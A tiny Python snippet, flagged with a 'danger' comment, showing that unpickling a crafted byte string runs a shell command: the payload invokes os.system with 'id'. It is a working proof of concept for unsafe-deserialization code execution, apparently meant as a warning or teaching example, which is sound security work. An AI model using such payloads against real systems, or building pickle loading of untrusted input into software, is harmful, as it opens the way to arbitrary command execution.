# danger: a pickle from text
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
